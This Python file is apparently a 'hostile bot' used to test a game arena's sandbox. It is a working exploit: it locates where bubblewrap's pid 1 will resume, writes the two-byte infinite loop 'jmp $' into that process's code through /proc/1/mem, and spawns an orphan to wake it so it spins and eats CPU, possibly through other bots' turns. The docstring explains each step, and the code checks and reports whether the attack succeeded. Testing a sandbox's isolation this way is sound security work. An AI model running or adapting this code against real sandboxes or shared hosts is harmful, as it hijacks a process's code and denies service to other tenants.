"""A hostile bot that makes bubblewrap's init run its code: ``jmp $`` written into the code
of the sandbox's pid 1 through ``/proc/1/mem``.

bubblewrap's init (pid 1 of the sandbox's PID namespace) runs as the bot's uid and only
reaps: it sleeps in ``wait``. Its ``/proc/1/mem`` is writable by the bot (same uid, and
the kernel lets ``/proc/PID/mem`` write over read-only code, as a debugger does). The bot
reads where pid 1 will go on when its ``wait`` returns (the last field of
``/proc/1/syscall``), writes the two bytes of ``jmp $`` (``EB FE``) there, and wakes it:
a process whose parent has exited is handed to pid 1, which reaps it when it exits. pid 1
then spins for the sandbox's life. Where the arena took it out of the bot's freezer
cgroup (as it once did, to save a wake-up per stop), it spins through every other bot's
turn, on the core of the bot's table.

``--when start`` (the default): the attack is made at start-up, before the bot serves;
``--when decision``: at its first decision (each process once).

Report: ``{"attack": "initjack", "syscall": the first field of /proc/1/syscall before,
"wrote": bool, "spinning": bool (pid 1 running, its CPU time growing after the wake),
"init_cpu_ms": pid 1's CPU time, "errors": {...}}`` after the attack and at each
decision (``init_cpu_ms`` growing).
"""

from __future__ import annotations

import subprocess
import sys
import time
from typing import Any

import _hostile

from arena.sdk import View

state: dict[str, Any] = {"syscall": None, "wrote": False, "spinning": False, "errors": {}}


def init_cpu_ms() -> float:
    """pid 1's CPU time (user and system), in ms (clock ticks of 100 Hz, as /proc says)."""
    raw = _hostile.read_proc(1, "stat") or b""
    fields = raw.rpartition(b")")[2].split()
    try:
        return (int(fields[11]) + int(fields[12])) * 10.0
    except (IndexError, ValueError):
        return -1.0


def init_state() -> str:
    raw = _hostile.read_proc(1, "stat") or b""
    fields = raw.rpartition(b")")[2].split()
    return fields[0].decode() if fields else "?"


def attack() -> None:
    try:
        text = (_hostile.read_proc(1, "syscall") or b"").decode().split()
    except OSError as e:
        state["errors"]["syscall"] = str(e)
        text = []
    if not text:
        state["errors"].setdefault("syscall", "unreadable")
        return
    state["syscall"] = text[0]
    if text[0] in ("running", "-1"):
        state["errors"]["syscall"] = f"pid 1 not asleep in a system call: {text[0]}"
        return
    pc = int(text[-1], 16)
    try:
        with open("/proc/1/mem", "r+b", buffering=0) as mem:
            mem.seek(pc)
            mem.write(b"\xeb\xfe")  # jmp $
        state["wrote"] = True
    except OSError as e:
        state["errors"]["write"] = f"{type(e).__name__}: {e}"
        return
    # an orphan for pid 1 to reap: a child that starts a grandchild and exits at once
    orphan = ("import os, time\n"
              "if os.fork() == 0:\n"
              "    time.sleep(0.05); os._exit(0)\n"
              "os._exit(0)\n")
    try:
        subprocess.run([sys.executable, "-c", orphan], check=False, timeout=30)
    except (OSError, subprocess.SubprocessError) as e:
        state["errors"]["orphan"] = f"{type(e).__name__}: {e}"
        return
    before = init_cpu_ms()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        time.sleep(0.05)
        if init_state() == "R" and init_cpu_ms() > before:
            state["spinning"] = True
            break


def report() -> None:
    _hostile.report("initjack", init_cpu_ms=init_cpu_ms(), init_state=init_state(), **state)


class InitJack(_hostile.Legal):
    name = "hostile-initjack"

    def __init__(self, at_decision: bool) -> None:
        super().__init__()
        self.pending = at_decision

    def _turn(self, view: View) -> int:
        if self.pending:
            self.pending = False
            attack()
        report()
        return self.strategy.act(view)

    bid = play = choose_trump = _turn


if __name__ == "__main__":
    p = _hostile.parser(__doc__ or "")
    p.add_argument("--when", choices=("start", "decision"), default="start")
    args, rest = _hostile.parse(p)
    if args.when == "start":
        attack()
        report()
    _hostile.serve(InitJack(args.when == "decision"), rest)
